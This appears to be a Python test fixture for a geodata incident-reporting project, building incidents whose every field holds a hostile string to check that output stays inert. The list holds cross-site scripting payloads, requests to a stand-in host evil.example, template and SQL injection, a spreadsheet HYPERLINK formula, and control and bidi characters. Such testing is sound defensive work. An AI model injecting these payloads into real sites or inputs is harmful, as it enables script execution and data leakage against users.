"""Texts that would do something if they were anything but text.

Whatever runs sets ``window.hit`` or asks ``evil.example``.
"""

from geodata.models import Claim, GeoPrecision, Source, WeaponUse
from tests.builders import exactly, make_incident, make_location, make_report

_ACT = "window.hit=1"
_ASK = "http://evil.example/x"

TEXTS = [
    f"<script>{_ACT}</script>",
    f"</script><script>{_ACT}</script>",
    f"<SCRIPT SRC={_ASK}.js></SCRIPT>",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<!--<script>{_ACT}//-->",
    f"--><script>{_ACT}</script><!--",
    f"]]><script>{_ACT}</script>",
    f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
    f"&#60;img src=x onerror={_ACT}&#62;",
    f"<img src=x onerror={_ACT}>",
    f"<img src={_ASK}.png>",
    f'"><img src=x onerror="{_ACT}">',
    f"'><img src=x onerror='{_ACT}'>",
    f"<svg onload={_ACT}>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_ACT}>",
    f"<body onload={_ACT}>",
    f"<details open ontoggle={_ACT}>",
    f"<input autofocus onfocus={_ACT}>",
    f"<iframe srcdoc='<script>parent.{_ACT}</script>'></iframe>",
    f"<iframe src={_ASK}></iframe>",
    f"<object data={_ASK}></object><embed src={_ASK}>",
    f"<base href={_ASK}/>",
    f"<meta http-equiv=refresh content='0;url={_ASK}'>",
    f"<link rel=stylesheet href={_ASK}.css>",
    f"<style>@import '{_ASK}.css';*{{background:url({_ASK}.png)}}</style>",
    f"color:red;background:url({_ASK}.png)",
    f"<a href=javascript:{_ACT}>a</a>",
    f"javascript:{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    f"{{{{ 7*7 }}}} ${{{_ACT}}} {{% raw %}} {{{{a.constructor('{_ACT}')()}}}}",
    f'";{_ACT};//',
    f"');{_ACT};('",
    f"![x]({_ASK}.png) [a](javascript:{_ACT}) :red[x] $x$ `{_ACT}`",
    "\x00 a NUL \x07 a bell \x1b[31m a terminal's red",
    "\u202e from right to left \u2066 and isolated \u200f\u2028 a line's end",
    f'=HYPERLINK("{_ASK}","a"); DROP TABLE incidents;-- %s %n {"{0}"}',
    "Z\u0335\u0321\u035b" * 40 + " <b>" + "very long " * 2_000,
]
HALVES = ["half a pair \ud83d", "\udc00 the other half"]
"""Texts that no UTF-8 holds: no frame takes them, so no page has them."""


def hostile_incident(number, text):
    """An incident with a text in every field that a report could fill.

    Each fifth has no place, so that it stands in the list of those.
    """
    report = make_report()
    fields = ("killed", "weapons", "effects", "actor", "place", text)
    claims = tuple(
        Claim(
            field=field,
            value=text,
            quote=text,
            start=0,
            end=len(text),
            report_id=report.report_id,
            attributed_to=text,
        )
        for field in fields
    )
    source = Source(
        report_id=report.report_id,
        title=text,
        outlet=text,
        url=text,
        published=None,
        language=text,
        sha256=report.sha256,
    )
    place = make_location(
        text,
        24.0 + 2 * (number % 8),
        44.0 + 1.5 * (number // 8),
        country=None,
        admin1=text,
        admin2=text,
        place_id=text,
        geo_precision=GeoPrecision.SETTLEMENT,
    )
    return make_incident(
        f"{number:016x}",
        title=text,
        toponym=f"{text} ",
        location=None if number % 5 == 4 else place,
        killed=exactly(1),
        weapons=(WeaponUse(weapon=text),),
        effects=(text,),
        actor=text,
        time_of_day=text,
        claims=claims,
        sources=(source,),
    )
